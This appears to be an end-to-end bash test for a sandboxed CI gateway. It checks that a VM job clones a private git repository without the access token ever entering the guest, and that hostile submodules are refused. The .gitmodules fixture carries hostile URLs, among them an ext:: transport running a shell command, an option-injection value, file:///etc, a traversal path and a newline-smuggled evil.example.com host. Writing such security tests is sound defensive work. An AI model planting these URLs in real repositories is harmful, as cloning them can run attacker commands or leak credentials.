#!/usr/bin/env bash
# A job's own git reaches a private repository through the gateway, in whatever spelling, and the token never enters the VM
# (I6, GIT-07): one clone with submodules, hostile submodule URLs, a refused repository, then a search of the whole guest.
set -euo pipefail
# shellcheck source=tests/e2e/own_network.bash
source "${CLEANROOM_SOURCE_DIR:?}/tests/e2e/own_network.bash"
# shellcheck source=tests/e2e/vm_support.bash
source "${CLEANROOM_SOURCE_DIR:?}/tests/e2e/vm_support.bash"
token=canary-ghp-$(od -An -tx8 -N8 /dev/urandom | tr -d ' ')
basic=$(printf 'x-access-token:%s' "$token" | base64 -w0)

ip link set lo up
ip address add 10.99.0.1/32 dev lo
printf '127.0.0.1 localhost\n10.99.0.1 git.example.com\n' >"$work/hosts"
mount --bind "$work/hosts" /etc/hosts

# Two private repositories; the second is a submodule of the first, beside URLs that try to be something else.
export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@example.com GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@example.com
make_repository() {
  git init -q -b main "$work/$1" && git -C "$work/$1" add -A && git -C "$work/$1" commit -q --allow-empty -m "$1"
}
mkdir -p "$work/git/acme" "$work/lib"
echo "hello from the library" >"$work/lib/hello"
make_repository lib
git clone -q --bare "$work/lib" "$work/git/acme/lib.git"
make_repository web
sub=$(git -C "$work/lib" rev-parse HEAD)
cat >"$work/web/.gitmodules" <<'EOF'
[submodule "lib"]
	path = lib
	url = ../lib.git
[submodule "outside"]
	path = outside
	url = ../../evil/lib.git
[submodule "ext"]
	path = ext
	url = ext::sh -c "touch% /tmp/owned"
[submodule "file"]
	path = file
	url = file:///etc
[submodule "option"]
	path = option
	url = -u./owned
[submodule "newline"]
	path = newline
	url = "https://git.example.com/acme/lib\nhost=evil.example.com\n.git"
EOF
echo "hello from the private repository" >"$work/web/hello"
for name in lib outside ext file option newline; do git -C "$work/web" update-index --add --cacheinfo "160000,$sub,$name"; done
git -C "$work/web" add .gitmodules hello
git -C "$work/web" commit -qm submodules
git clone -q --bare "$work/web" "$work/git/acme/web.git"

cat >"$work/spec.json" <<JSON
{"names": ["git.example.com"], "listeners": {"https": {"address": "10.99.0.1", "port": 443, "tls": "good", "routes": [
  {"prefix": "/", "require": {"Authorization": "Basic $basic"}, "mode": "git", "root": "$work/git"}]}}}
JSON
mkfifo "$work/ready"
"$CLEANROOM_SOURCE_DIR/tests/support/farm/upstream_farm" --dir "$work/farm" --spec "$work/spec.json" >"$work/ready" &
read -r -t 30 line <"$work/ready" || line='(nothing)'
[[ $line = ready* ]] || fail "the servers did not start: $line"

policy ''
cat >>"$work/checkout/cleanroom.yaml" <<'EOF'
git:
  allow:
    - {host: git.example.com, repositories: ["acme/*"]}
EOF
printf 'network: {private_cidrs: [10.99.0.0/24]}\n' >"$work/config/ceiling.yaml"
printf 'gateway: {ca_file: %s}\n' "$work/farm/tls/ca.pem" >>"$work/config/config.yaml"
(umask 077 && printf '%s\n' "$token" >"$work/token")
cat >"$work/config/credentials.yaml" <<EOF
bindings:
  - id: acme-read
    host: git.example.com
    paths: ["acme/*"]
    methods: [git-read]
    pipelines: [local]
    source: {file: $work/token}
EOF

cat >"$work/checkout/job.sh" <<'EOS'
git clone -q git@git.example.com:acme/web.git web || echo "the clone failed"
cat web/hello
cd web
echo "origin $(git config remote.origin.url)"
for name in lib outside ext file option newline; do
  timeout 60 git submodule update --init "$name" >/tmp/said 2>&1 </dev/null && echo "submodule $name: yes" || echo "submodule $name: no"
done
cat lib/hello
[ ! -e /tmp/owned ] || echo "a submodule ran a command"
echo "--- another repository"
git ls-remote https://git.example.com/other/web 2>&1 | grep -o git_repository_not_allowed | head -n 1
git push -q origin HEAD:refs/heads/new 2>&1 | grep -o git_push_not_allowed | head -n 1
echo "--- search"
needle=$(printf '%s%s' "canary-" "ghp-")
env >/tmp/env
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline >/tmp/processes 2>/dev/null
grep -rlaF "$needle" --exclude=job.sh /workspace /run /tmp /etc /root /home /var /opt /srv /dev/shm 2>/dev/null && echo "the token is in the guest"
grep -laF "$needle" /dev/vda /dev/vdb /dev/vdc 2>/dev/null && echo "the token is on a disk"
echo "search over"
EOS
in_vm 0 --memory 1024 -- /bin/sh job.sh
expect '^hello from the private repository$'
expect '^origin git@git.example.com:acme/web.git$'
expect '^submodule lib: yes$'
expect '^hello from the library$'
for name in outside ext file option newline; do expect "^submodule $name: no\$"; done
expect '^git_repository_not_allowed$'
expect '^git_push_not_allowed$'
expect '^search over$'
refuse 'the clone failed|a submodule ran a command|the token is'
expect 'blocked git git.example.com/other/web \(git_repository_not_allowed'
expect 'blocked git git.example.com/evil/lib \(git_repository_not_allowed'
expect 'cleanroom.yaml would allow reading them with:'
expect '    - \{host: git.example.com, repositories: \[evil/lib, other/web\]\}'
if grep -qF "$token" "$work/out" || grep -qF "$basic" "$work/out"; then fail "the token is in the log"; fi
run=$(find "$work/state" -name audit.jsonl | head -n 1)
[ -n "$run" ] || fail "no audit log"
if grep -rqF -e "$token" -e "$basic" "$work/state"; then fail "the token is in the run directory"; fi
grep -q '"event":"credential".*"binding":"acme-read"' "$run" || fail "no audit line of the credential's use"
[ "$failures" = 0 ] || sed 's/^/  | /' "$work/out"
kill %1
nothing_left
